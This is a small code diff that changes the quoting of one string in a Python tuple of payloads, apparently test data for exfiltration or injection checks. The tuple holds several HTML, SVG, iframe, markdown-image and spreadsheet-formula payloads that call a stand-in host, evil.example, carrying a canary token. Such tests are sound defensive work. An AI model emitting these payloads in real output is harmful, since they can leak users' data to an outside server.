@@ -44,7 +44,7 @@ FOREIGN = (
     f"<a href='//evil.example/{CANARY}'>x</a>",
     f"<svg/onload=fetch('//evil.example/{CANARY}')>",
     f"<iframe src=//evil.example/{CANARY}",
-    f'[![a](https://evil.example/{CANARY})](https://evil.example/{CANARY})',
+    f"[![a](https://evil.example/{CANARY})](https://evil.example/{CANARY})",
     f'=HYPERLINK("https://evil.example/{CANARY}","x")',
 )
 
